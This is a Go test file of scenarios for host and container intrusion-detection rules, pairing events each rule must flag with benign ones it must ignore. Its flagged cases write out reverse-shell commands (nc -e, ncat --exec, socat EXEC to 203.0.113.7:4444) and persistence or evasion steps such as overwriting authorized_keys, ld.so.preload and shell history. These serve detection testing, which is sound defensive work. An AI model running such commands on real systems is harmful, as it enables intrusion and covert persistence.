package policies_test

// scenario is what a rule has to fire on and what it has to leave alone.
type scenario struct {
	rule   string
	fires  []activity
	silent []activity
}

// runcInit is how a container's process looks before its own program runs.
var runcInit = below("runc:[2:INIT]", "containerd-shim", "systemd")

var shellScenarios = []scenario{
	{
		rule: "Terminal shell in a container",
		fires: []activity{
			exec("bash", in("nginx"), tty(pts0), runcInit),
			exec("/bin/busybox sh", named("sh"), in("alpine"), tty(pts0), runcInit),
		},
		silent: []activity{
			exec("bash", tty(pts0), below("sshd")),
			exec("sh -c true", in("nginx"), tty(noTTY), runcInit),
			exec("bash", in("nginx"), tty(pts0), below("bash", "runc:[2:INIT]")),
			exec("ls", in("nginx"), tty(pts0), runcInit),
		},
	},
	{
		rule: "Shell opened a network connection",
		fires: []activity{
			connect("203.0.113.7:4444", by("bash -i"), in("web")),
			connect("10.1.2.3:80", by("zsh")),
			connect("[2001:db8::1]:443", by("bash")),
			connect("203.0.113.7:4444", by("bash"), failed(115)),
		},
		silent: []activity{
			connect("203.0.113.7:443", by("curl https://example.org")),
			connect("203.0.113.7:4444", by("bash"), failed(111)),
			connect("203.0.113.7:80", by("/bin/busybox wget http://x")),
		},
	},
	{
		rule: "Remote shell tool",
		fires: []activity{
			exec("nc -e /bin/sh 203.0.113.7 4444"),
			exec("nc -lvp 4444 -e /bin/bash"),
			exec("ncat --exec /bin/bash 203.0.113.7 4444", in("web")),
			exec("socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty"),
		},
		silent: []activity{
			exec("nc -z db 5432"),
			exec("socat TCP-LISTEN:80,fork TCP:web:8080"),
			exec("tool -e /bin/sh"),
		},
	},
	{
		rule: "Interactive shell without a terminal",
		fires: []activity{
			exec("sh -i", below("python3"), in("web")),
			exec("/bin/bash -i", below("perl")),
		},
		silent: []activity{
			exec("bash -i", tty(pts0), below("tmux: server")),
			exec("sh -c ls -i", below("make")),
		},
	},
	{
		rule: "Shell started by a network service",
		fires: []activity{
			exec("sh -c id", below("nginx"), user(33, "www-data")),
			exec("bash", below("postgres"), user(70, "postgres"), in("postgres")),
			exec("sh -c id", below("php-fpm8.2")),
		},
		silent: []activity{
			exec("sh -c locale -a", below("postgres")),
			exec("sh -c test ! -f /archive/1", below("postgres"), parentCommand("postgres: archiver last was 1")),
			exec("sh -c id", below("bash")),
			exec("id", below("nginx")),
		},
	},
}

var executionScenarios = []scenario{
	{
		rule: "Program run from a temporary directory",
		fires: []activity{
			exec("/tmp/x", below("bash")),
			exec("/dev/shm/x", in("web")),
			exec("./x", file("/var/tmp/x"), named("x"), below("sh")),
			exec("ls", file("/tmp/.hidden/ls")),
			exec("/tmp/apt", below("bash")),
		},
		silent: []activity{
			exec("ls /tmp"),
			exec("/tmp/go-build123/b001/x.test", below("go", "bash")),
			exec("/srv/tmp/x"),
		},
	},
	{
		rule: "Program run from memory",
		fires: []activity{
			exec("x", file("memfd:x"), attr("sightglass.process.memfd", true), below("python3")),
		},
		silent: []activity{
			exec("runc init", file("memfd:runc_cloned:/proc/self/exe"), attr("sightglass.process.memfd", true), below("containerd-shim")),
			exec("x"),
		},
	},
	{
		rule: "Program that is not in the image",
		fires: []activity{
			exec("/usr/local/bin/x", in("web"), attr("sightglass.process.upper_layer", true)),
		},
		silent: []activity{
			exec("/usr/local/bin/x", attr("sightglass.process.upper_layer", true)),
			exec("/usr/local/bin/x", in("web"), attr("sightglass.process.lower_layer", true)),
		},
	},
}

var fileScenarios = []scenario{
	{
		rule: "Software installed past the package manager",
		fires: []activity{
			open("/usr/local/bin/x", wronly|creat, by("install -m 755 x /usr/local/bin/x"), below("sh", "make", "bash")),
			symlink("/srv/lib/x.js", "/usr/bin/x", by("node /usr/bin/npm install -g x")),
			open("/usr/local/bin/x", wronly|creat, by("pip3 install x")),
			open("/usr/local/lib/libx.so.1.0", wronly|creat, by("install -m 644 libx.so.1.0 /usr/local/lib"), below("sh", "make", "bash")),
			symlink("libx.so.1.0", "/usr/local/lib/libx.so", by("ln -sf libx.so.1.0 /usr/local/lib/libx.so"), below("sh", "make", "bash")),
			open("/usr/local/lib/python3.11/dist-packages/x.cpython-311-x86_64-linux-gnu.so", wronly|creat, by("pip3 install x")),
		},
		silent: []activity{
			open("/usr/local/bin/x", wronly|creat, by("install x /usr/local/bin"), below("bash")),
			open("/usr/local/bin/x", wronly|creat, by("/tmp/pip3 install x")),
			open("/srv/x", wronly|creat, by("cc"), below("make")),
			open("/srv/libx.so", wronly|creat, by("ld"), below("collect2", "cc", "make")),
			open("/usr/local/lib/libx.a", wronly|creat, by("install -m 644 libx.a /usr/local/lib"), below("sh", "make", "bash")),
			open("/usr/lib/libx.so.1", wronly|creat, by("cp x /usr/lib"), below("sh", "dpkg", "apt-get", "bash")),
		},
	},
	{
		rule: "Write below a binary directory",
		fires: []activity{
			open("/usr/bin/ls", wronly|trunc, by("cp x /usr/bin/ls")),
			open("/usr/local/sbin/x", wronly|creat, by("curl"), in("web")),
			open("/usr/bin/ls", wronly, by("tee"), through("/srv/harmless")),
			unlink("/usr/sbin/auditd", by("rm")),
			rename("/srv/x", "/usr/bin/x", by("mv")),
			rename("/usr/bin/x", "/srv/x", by("mv")),
			symlink("/srv/x", "/usr/bin/x", by("ln")),
			chmod("/usr/bin/x", 0o755, by("chmod")),
			open("/usr/local/bin/x", wronly|creat, by("install x /usr/local/bin"), below("make", "bash"), in("web")),
			open("/usr/local/bin/x", wronly|creat, by("node server.js"), below("make", "bash")),
			open("/usr/local/bin/x", wronly|creat, by("cp x /usr/local/bin"), below("sh", "node", "npm start", "bash")),
		},
		silent: []activity{
			open("/usr/local/bin/x", wronly|creat, by("install x /usr/local/bin"), below("make", "bash")),
			open("/usr/bin/ls", rdonly, by("md5sum")),
			open("/usr/bin/ls.dpkg-new", wronly|creat, by("dpkg --unpack"), below("apt-get")),
			rename("/usr/bin/x.dpkg-new", "/usr/bin/x", by("dpkg"), below("apt-get")),
			unlink("/usr/bin/old", by("rm"), below("x.prerm", "dpkg")),
			open("/usr/binary/x", wronly|creat, by("cp")),
			symlink("/usr/bin/x", "/srv/x", by("ln")),
			open("/usr/bin/ls", wronly, by("cp"), failed(30)),
		},
	},
	{
		rule: "Write below /etc",
		fires: []activity{
			open("/etc/hosts", wronly, by("vi"), through("/srv/hosts"), attr("sightglass.file.path.resolved", "/etc/hosts.allow")),
			open("/etc/motd", wronly|creat, by("sh"), in("web")),
			unlink("/etc/audit/rules.d/x", by("rm")),
			rename("/etc/motd.new", "/etc/motd", by("mv")),
			symlink("/srv/x", "/etc/alternatives/x", by("ln")),
			chmod("/etc/crypttab", 0o644, by("chmod")),
		},
		silent: []activity{
			open("/etc/.hosts.swp", wronly|creat, by("vim.basic /etc/hosts"), below("bash")),
			open("/etc/ssl/certs/ca-certificates.crt.new", wronly|creat, by("/usr/sbin/update-ca-certificates")),
			rename("/etc/ssl/certs/ca-certificates.crt.new", "/etc/ssl/certs/ca-certificates.crt", by("mv"), below("update-ca-certificates")),
			open("/etc/passwd", rdonly, by("id")),
			open("/etc/passwd+", wronly|creat, by("useradd x")),
			open("/etc/ld.so.cache~", wronly|creat, by("/usr/sbin/ldconfig")),
			open("/etc/nginx/nginx.conf.dpkg-new", wronly|creat, by("dpkg"), below("apt-get")),
			rename("/etc/ssl/certs/x.new", "/etc/ssl/certs/x", by("mv"), below("update-ca-certif", "x.postinst", "dpkg")),
			open("/run/systemd/resolve/resolv.conf", wronly, by("tool"), through("/etc/resolv.conf")),
			open("/etc/resolv.conf", wronly, by("/usr/sbin/dhclient")),
			symlink("/etc/localtime", "/srv/localtime", by("ln")),
			open("/etcetera", wronly, by("vi")),
			open("/etc/hostname", wronly|creat, named("runc:[2:INIT]"), in("web")),
			open("/etc/systemd/system/x.service", wronly|creat, by("/usr/lib/systemd/systemd")),
		},
	},
}

var networkScenarios = []scenario{
	{
		rule: "Outbound connection from a database",
		fires: []activity{
			connect("203.0.113.7:443", by("postgres"), in("postgres")),
			connect("203.0.113.7:5432", by("postgres")),
			connect("10.3.2.1:22", by("mysqld")),
			connect("203.0.113.7:443", by("curl"), below("postgres")),
			connect("[2001:db8::1]:443", by("redis-server")),
		},
		silent: []activity{
			connect("10.3.2.1:5432", by("postgres")),
			connect("127.0.0.1:8080", by("postgres")),
			connect("[::1]:5433", by("postgres")),
			connect("10.96.0.10:53", by("mongod")),
			connect("203.0.113.7:443", by("curl"), below("bash")),
			connect("203.0.113.7:443", by("postgres"), failed(111)),
			call("sightglass.network.connect", "connect", 0, by("postgres"), attr("network.type", "unix"),
				attr("sightglass.file.descriptor.type", "unix"), attr("network.peer.address", "/run/x.sock")),
		},
	},
}

var loginScenarios = []scenario{
	{
		rule: "Login over SSH",
		fires: []activity{
			exec("-bash", file("/usr/bin/bash"), named("bash"), below("sshd-session", "sshd"), login(someone), tty(pts0)),
			exec("bash -c uptime", below("sshd", "sshd", "systemd"), login(root)),
		},
		silent: []activity{
			exec("/usr/sbin/sshd -R", below("sshd")),
			exec("sh -c /usr/bin/env run-parts --lsbsysinit /etc/update-motd.d", below("sshd"), login(someone)),
			exec("bash", below("bash", "sshd"), login(someone)),
			exec("bash", below("sshd")),
			exec("uptime", below("sshd", "sshd"), login(someone), attr("sightglass.process.replaced", "bash")),
		},
	},
	{
		rule: "SSH server in a container",
		fires: []activity{
			exec("/usr/sbin/sshd -D", in("web"), runcInit),
		},
		silent: []activity{
			exec("/usr/sbin/sshd -D", below("systemd")),
			exec("/usr/sbin/sshd -R", in("web"), below("sshd")),
			exec("ssh host", in("web")),
		},
	},
	{
		rule: "Change to another user",
		fires: []activity{
			exec("sudo -i", below("bash"), login(someone), tty(pts0)),
			exec("su -", below("bash"), login(someone)),
		},
		silent: []activity{
			exec("sudo -u app x", below("cron")),
			exec("runuser -u postgres psql", below("bash"), login(root)),
			exec("su app", below("sudo", "bash"), login(someone)),
			exec("id", below("bash"), login(someone)),
		},
	},
	{
		rule: "Unexpected change to root",
		fires: []activity{
			setuid(root, by("/srv/exploit"), login(someone), below("bash")),
			setuid(root, by("/tmp/sudo"), login(someone), below("bash")),
		},
		silent: []activity{
			setuid(root, by("sudo -i"), login(someone), below("bash")),
			setuid(root, by("python3"), login(someone), below("sudo", "bash")),
			setuid(root, by("/srv/daemon"), below("systemd")),
			setuid(someone, by("/srv/x"), login(someone)),
			setuid(root, by("/srv/x"), login(someone), failed(1)),
		},
	},
	{
		rule: "Program made to run as its owner",
		fires: []activity{
			chmod("/srv/x", 0o4755, by("chmod u+s /srv/x")),
			chmod("/srv/x", 0o4711, by("python3"), in("web")),
		},
		silent: []activity{
			chmod("/srv/x", 0o755, by("chmod +x /srv/x")),
			chmod("/srv/shared", 0o2775, by("git init --shared")),
			chmod("/usr/bin/x", 0o4755, by("dpkg --configure x")),
			chmod("/srv/x", 0o4755, by("chmod u+s /srv/x"), failed(1)),
		},
	},
}

var evasionScenarios = []scenario{
	{
		rule: "Shell history deleted",
		fires: []activity{
			unlink("/root/.bash_history", by("rm")),
			open("/home/ada/.bash_history", wronly|trunc, by("bash")),
			rename("/root/.zsh_history", "/srv/x", by("mv")),
			symlink("/dev/null", "/root/.bash_history", by("ln -s")),
			rename("/root/CuX1b2", "/root/.bash_history", by("ln -sf")),
			unlink("/home/ada/.local/share/fish/fish_history", by("rm")),
		},
		silent: []activity{
			open("/root/.bash_history", wronly|creat, by("bash")),
			open("/root/.bash_history", wronly|creat|trunc, by("bash"), attr("sightglass.file.created", true)),
			rename("/root/.bash_history-123.tmp", "/root/.bash_history", by("bash")),
			rename("/root/.bash_history", "/root/.bash_history-", by("bash")),
			unlink("/home/ada/.bash_history", by("/usr/sbin/userdel -r ada")),
			unlink("/srv/history", by("rm")),
			unlink("/srv/shop/order_history", by("rm")),
		},
	},
	{
		rule: "Another process was traced",
		fires: []activity{
			ptrace(16, 77, by("/srv/injector")),
			ptrace(5, 77, by("python3"), in("web")),
			ptrace(16, 77, by("gdb -p 77"), in("web")),
			ptrace(16, 77, by("/tmp/gdb")),
		},
		silent: []activity{
			ptrace(16, 77, by("gdb -p 77")),
			ptrace(0, 0, by("/srv/self")),
			ptrace(16, 77, by("/srv/injector"), failed(1)),
			ptrace(7, 77, by("/srv/injector")),
		},
	},
}

var persistenceScenarios = []scenario{
	{
		rule: "List of accepted SSH keys changed",
		fires: []activity{
			open("/root/.ssh/authorized_keys", wronly|creat, by("bash")),
			rename("/home/ada/x", "/home/ada/.ssh/authorized_keys", by("mv")),
			symlink("/srv/keys", "/root/.ssh/authorized_keys", by("ln")),
		},
		silent: []activity{
			open("/root/.ssh/authorized_keys", rdonly, by("/usr/sbin/sshd")),
			open("/root/.ssh/known_hosts", wronly, by("ssh")),
			open("/root/.ssh/authorized_keys", wronly, by("/usr/bin/cloud-init")),
		},
	},
	{
		rule: "Scheduled job changed",
		fires: []activity{
			open("/var/spool/cron/crontabs/root", wronly|creat, by("bash")),
			open("/etc/cron.d/job", wronly|creat, by("bash")),
			rename("/srv/x", "/var/spool/cron/crontabs/www-data", by("mv"), in("web")),
		},
		silent: []activity{
			rename("/var/spool/cron/crontabs/tmp.x", "/var/spool/cron/crontabs/root", by("crontab -e")),
			open("/var/spool/cron/crontabs/root", rdonly, by("/usr/sbin/cron")),
		},
	},
	{
		rule: "Library preloaded into every program",
		fires: []activity{
			open("/etc/ld.so.preload", wronly|creat, by("sh")),
			rename("/srv/x", "/etc/ld.so.preload", by("mv")),
			symlink("/srv/x", "/etc/ld.so.preload", by("ln")),
		},
		silent: []activity{
			open("/etc/ld.so.preload", rdonly, by("ls")),
			open("/etc/ld.so.conf", wronly, by("vi")),
		},
	},
}
